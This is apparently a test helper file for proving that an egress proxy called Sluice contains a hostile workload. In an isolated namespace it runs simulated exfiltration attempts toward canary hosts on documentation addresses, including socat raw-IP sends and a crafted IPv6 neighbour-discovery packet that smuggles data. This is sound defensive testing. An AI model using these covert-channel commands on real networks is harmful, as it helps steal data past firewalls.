// The shared parts of the containment proof (CONTRACT §8, §10): "the internet" with its canaries, the hostile
// workload's attacks, and Sluice as a separate process under its own UID inside a namespace.
//
// The test process runs in the lo-only namespace of isolate() and IS the internet: 203.0.113.1 and
// 2001:db8:1::1 (documentation ranges, on a veth pair to namespaces the test created, nowhere else). Its
// canaries count at two levels: the servers (HTTP, TCP, UDP, DNS on v4 and v6) count what they accept, and
// iptables counters in this same private namespace count every TCP SYN, UDP datagram, ICMP echo request and
// raw IP packet (protocol 253) that arrives. A proof of "zero egress" compares both before and after.
import { type ChildProcess, spawn } from 'node:child_process';
import { type Socket as UdpSocket, createSocket } from 'node:dgram';
import { chmodSync, writeFileSync } from 'node:fs';
import { type Server, createServer } from 'node:net';
import { join } from 'node:path';
import type { Test } from 'tap';
import { stringify } from 'yaml';
import { type RawFirewallOptions, parseFirewallOptions, renderAll } from '../../iptables/render.js';
import { type Canary, startHttpCanary } from '../helpers/canary.js';
import { cliArgv } from '../helpers/cli.js';
import { type FakeDns, startFakeDns } from '../helpers/fake-dns.js';
import { repoPath } from '../helpers/repo.js';
import { type Run, must, run, runAsync, tempDir } from './topology.js';

export const INET = { v4: '203.0.113.1', v6: '2001:db8:1::1' } as const;
export const SLUICE_UID = 10001;
export const WORKLOAD_UID = 10002;
export const AUTH = 'agent:agent-password-123';
const WORKLOAD = repoPath('test/containment/fixtures/workload.mjs');
export const SETUP = repoPath('iptables/setup.sh');

export type Hits = Record<string, number>;

export interface Internet {
  readonly dns: FakeDns;
  readonly http: Canary;
  /** Every counter at once; compare two snapshots for "nothing arrived". */
  hits(): Hits;
}

// Kernel-level counters, in rule order.
const KERNEL: Record<4 | 6, [string, string[]][]> = {
  4: [
    ['syn4', ['-p', 'tcp', '--syn']],
    ['udp4', ['-p', 'udp']],
    ['icmp4', ['-p', 'icmp', '--icmp-type', 'echo-request']],
    ['raw4', ['-p', '253']],
  ],
  6: [
    ['syn6', ['-p', 'tcp', '--syn']],
    ['udp6', ['-p', 'udp']],
    ['icmp6', ['-p', 'ipv6-icmp', '--icmpv6-type', 'echo-request']],
    ['raw6', ['-p', '253']],
    // Data dressed up as neighbour discovery: an NS carrying the marker below as its target.
    [
      'ndp6',
      ['-p', 'ipv6-icmp', '--icmpv6-type', '135', '-m', 'string', '--algo', 'bm', '--hex-string', '|20010db8deadbeef|'],
    ],
  ],
};
/** A neighbour solicitation (type 135, hop limit 255) whose target address is the exfiltrated "data". */
const FAKE_NDP = Buffer.from('8700000000000000' + '20010db8deadbeef0000000000000001', 'hex');

function counting(t: Test, server: Server, port: number): Promise<{ count: () => number }> {
  let n = 0;
  server.on('connection', (s) => {
    n++;
    s.destroy();
  });
  t.teardown(() => server.close());
  return new Promise((r) => server.listen(port, '::', () => r({ count: () => n })));
}

function udpCounter(t: Test, type: 'udp4' | 'udp6', host: string, port: number): Promise<{ count: () => number }> {
  let n = 0;
  const s: UdpSocket = createSocket({ type, ipv6Only: type === 'udp6' });
  s.on('message', () => n++);
  t.teardown(() => s.close());
  return new Promise((r) => s.bind(port, host, () => r({ count: () => n })));
}

/** Starts the internet's servers and counters. Call once the INET addresses exist on this namespace's veth. */
export async function buildInternet(
  t: Test,
  names: Record<string, { a?: string[]; aaaa?: string[] }>,
): Promise<Internet> {
  for (const family of [4, 6] as const) {
    const ipt = family === 4 ? 'iptables' : 'ip6tables';
    must(ipt, ['-N', 'CANARY']);
    must(ipt, ['-I', 'INPUT', '1', '-j', 'CANARY']);
    for (const [, match] of KERNEL[family]) must(ipt, ['-A', 'CANARY', ...match]);
  }
  const dns = await startFakeDns(INET.v4, 53);
  t.teardown(() => dns.close());
  for (const [name, answer] of Object.entries(names)) dns.set(name, answer);
  const http = await startHttpCanary('::', 80);
  t.teardown(() => http.close());
  const tcp9000 = await counting(t, createServer(), 9000);
  const tcp53 = await counting(t, createServer(), 53);
  const udp4 = await udpCounter(t, 'udp4', '0.0.0.0', 9000);
  const udp6 = await udpCounter(t, 'udp6', '::', 9000);
  const dns6 = await udpCounter(t, 'udp6', '::', 53);
  const kernel = (): Hits => {
    const out: Hits = {};
    for (const family of [4, 6] as const) {
      const rows = must(family === 4 ? 'iptables' : 'ip6tables', ['-L', 'CANARY', '-n', '-v', '-x'])
        .split('\n')
        .slice(2)
        .filter(Boolean);
      KERNEL[family].forEach(([name], i) => (out[name] = Number(rows[i]?.trim().split(/\s+/)[0] ?? NaN)));
    }
    return out;
  };
  return {
    dns,
    http,
    hits: () => ({
      http: http.connections,
      tcp9000: tcp9000.count(),
      tcp53: tcp53.count(),
      udp4: udp4.count(),
      udp6: udp6.count(),
      dns4: dns.questions.length,
      dns6: dns6.count(),
      ...Object.fromEntries(Object.entries(kernel()).map(([k, v]) => [`kernel.${k}`, v])),
    }),
  };
}

export interface Attack {
  readonly kind: 'tcp' | 'udp' | 'dns-udp' | 'dns-tcp' | 'resolver' | 'proxy' | 'guard';
  readonly host: string;
  readonly port: number;
  readonly url?: string;
  readonly auth?: string;
}

export interface Outcome extends Attack {
  readonly outcome: string;
}

/** Every direct way out of a workload toward the internet namespace (IP literals; v4 and v6). */
export function directAttacks(): Attack[] {
  const out: Attack[] = [];
  for (const host of [INET.v4, INET.v6]) {
    out.push({ kind: 'tcp', host, port: 80 }, { kind: 'tcp', host, port: 9000 }, { kind: 'udp', host, port: 9000 });
    out.push(
      { kind: 'dns-udp', host, port: 53 },
      { kind: 'dns-tcp', host, port: 53 },
      { kind: 'resolver', host, port: 53 },
    );
  }
  return out;
}

const asWorkload = (extra: string[] = []) => [
  'setpriv',
  `--reuid=${WORKLOAD_UID}`,
  `--regid=${WORKLOAD_UID}`,
  '--clear-groups',
  ...extra,
];

/** Runs the workload's attacks as its UID in `ns`. */
export async function attack(ns: string, attacks: readonly Attack[]): Promise<Outcome[]> {
  const [cmd, ...args] = [...asWorkload(), process.execPath, WORKLOAD, JSON.stringify(attacks)];
  const r = await runAsync(cmd!, args, { ns });
  if (r.status !== 0) throw new Error(`workload failed: ${r.stderr}`);
  return JSON.parse(r.stdout) as Outcome[];
}

/** ICMP echo (ping, which has CAP_NET_RAW as a file capability), raw IP protocol 253 and hand-made IPv6
 * neighbour discovery (socat, given CAP_NET_RAW as a hostile container has it by default), v4 and v6. */
export async function rawAttacks(ns: string, v4: string = INET.v4, v6: string = INET.v6): Promise<Record<string, Run>> {
  const raw = asWorkload(['--inh-caps', '+net_raw', '--ambient-caps', '+net_raw']);
  const [c, ...a] = asWorkload();
  const [rc, ...ra] = raw;
  return {
    ping4: await runAsync(c!, [...a, 'ping', '-n', '-c', '1', '-W', '1', v4], { ns }),
    ping6: await runAsync(c!, [...a, 'ping', '-n', '-6', '-c', '1', '-W', '1', v6], { ns }),
    raw4: await runAsync(rc!, [...ra, 'socat', '-u', 'STDIN', `IP4-SENDTO:${v4}:253`], { ns, input: 'raw-ip-exfil' }),
    raw6: await runAsync(rc!, [...ra, 'socat', '-u', 'STDIN', `IP6-SENDTO:[${v6}]:253`], { ns, input: 'raw-ip-exfil' }),
    // IPPROTO_IPV6 (41), IPV6_UNICAST_HOPS (16) = 255: what NDP looks like on the wire.
    ndp6: await runAsync(rc!, [...ra, 'socat', '-u', 'STDIN', `IP6-SENDTO:[${v6}]:58,setsockopt-int=41:16:255`], {
      ns,
      input: FAKE_NDP,
    }),
  };
}

/** `sluice firewall render … > FILE`, in-process; returns FILE for setup.sh. */
export function renderTo(raw: RawFirewallOptions): string {
  const r = parseFirewallOptions(raw);
  if (!r.ok) throw new Error(r.errors.join('; '));
  const file = join(tempDir('sluice-proof-rules-'), 'sluice.rules');
  writeFileSync(file, renderAll(r.options));
  return file;
}

/** The canary names Sluice resolves through the internet's DNS server (and nothing else answers for). */
export const CANARY_NAMES = { 'canary4.test': { a: [INET.v4] }, 'canary6.test': { aaaa: [INET.v6] } };

/** Sluice's config in the proof, listening where the topology wants it; a config file its UID can read. */
export function writeProofConfig(listen: { http: string; dns: string }): string {
  return writeConfig({
    listen: { ...listen, socks5: null, admin: null },
    dns: { servers: [`${INET.v4}:53`], timeoutMs: 2000, minTtlS: 0, maxTtlS: 1 },
    identities: { agent: { password: AUTH.split(':')[1] } },
    // The canaries live in documentation ranges; the exceptions are bound to the test names only.
    addressGuard: {
      allow: [
        { cidr: '203.0.113.0/24', hosts: ['canary4.test'] },
        { cidr: '2001:db8:1::/64', hosts: ['canary6.test'] },
      ],
    },
    upstream: { connectTimeoutMs: 5000 },
    containment: { probe: { target: `${INET.v4}:80`, intervalS: 5, timeoutMs: 2000 } },
  });
}

function writeConfig(config: Record<string, unknown>): string {
  const dir = tempDir('sluice-proof-config-');
  chmodSync(dir, 0o755);
  const path = join(dir, 'sluice.yaml');
  writeFileSync(path, stringify(config), { mode: 0o644 });
  return path;
}

export interface SluiceProcess {
  readonly pid: number;
  /** Parsed pino lines from stdout. */
  readonly logs: Record<string, unknown>[];
  readonly exited: Promise<number | null>;
  kill9(): Promise<void>;
}

/** Starts `sluice serve` as UID 10001 inside `ns`, from the compiled dist/ (what operators run). */
export async function startSluiceProcess(
  t: Test,
  ns: string,
  configPath: string,
  opts: { caps?: boolean } = {},
): Promise<SluiceProcess> {
  // CAP_SETUID/CAP_SETGID as ambient capabilities: what the containment probe needs to run as another UID.
  const caps = opts.caps ? ['--inh-caps', '+setuid,+setgid', '--ambient-caps', '+setuid,+setgid'] : [];
  const child: ChildProcess = spawn(
    'ip',
    [
      'netns',
      'exec',
      ns,
      'setpriv',
      `--reuid=${SLUICE_UID}`,
      `--regid=${SLUICE_UID}`,
      '--clear-groups',
      ...caps,
      process.execPath,
      ...cliArgv(),
      'serve',
      '--config',
      configPath,
    ],
    {
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: '/nonexistent' },
      stdio: ['ignore', 'pipe', 'pipe'],
    },
  );
  const logs: Record<string, unknown>[] = [];
  let stderr = '';
  let partial = '';
  child.stdout!.on('data', (d: Buffer) => {
    const lines = (partial + d.toString()).split('\n');
    partial = lines.pop() ?? '';
    for (const l of lines) {
      try {
        logs.push(JSON.parse(l) as Record<string, unknown>);
      } catch {
        logs.push({ raw: l });
      }
    }
  });
  child.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
  const exited = new Promise<number | null>((r) =>
    child.on('exit', (code, signal) => {
      if (signal) stderr += `\n(killed by ${signal})`;
      r(code);
    }),
  );
  t.teardown(() => {
    if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
  });
  const started = await Promise.race([
    exited.then((code) => `exited ${code}`),
    (async () => {
      for (let i = 0; i < 3600 && !/Sluice http listening on/.test(stderr); i++)
        await new Promise((r) => setTimeout(r, 50));
      return /Sluice http listening on/.test(stderr) ? 'ok' : 'no start in 180s';
    })(),
  ]);
  if (started !== 'ok') throw new Error(`Sluice did not start (${started}): ${stderr}`);
  return {
    pid: child.pid!,
    logs,
    exited,
    async kill9() {
      child.kill('SIGKILL');
      await exited;
    },
  };
}

/** Waits (bounded) for a log line; returns it. */
export async function waitForLog(
  p: SluiceProcess,
  match: (l: Record<string, unknown>) => boolean,
  timeoutMs = 60_000,
): Promise<Record<string, unknown>> {
  for (let waited = 0; waited < timeoutMs; waited += 50) {
    const hit = p.logs.find(match);
    if (hit) return hit;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error('log line not seen');
}

export const setupSh = (ns: string, args: string[], env: Record<string, string> = {}) =>
  runAsync(SETUP, args, { ns, env: { ...process.env, ...env } });

/** Attempts that must all have failed: no connection, no reply, no answer. */
export function leaks(outcomes: readonly Outcome[]): Outcome[] {
  return outcomes.filter((o) => /^(connected|reply|answer|status)/.test(o.outcome));
}

export { run };
